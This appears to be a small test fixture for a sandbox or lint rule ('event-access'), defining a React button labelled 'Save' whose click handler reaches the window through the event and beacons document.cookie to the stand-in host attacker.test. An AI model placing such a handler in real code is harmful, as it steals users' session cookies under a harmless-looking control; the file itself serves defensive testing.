// probe: window through an event; refused by: event-access
export default function Probe() {
  return <button onClick={(e) => e.view.navigator.sendBeacon("https://attacker.test/c", e.view.document.cookie)}>Save</button>;
}
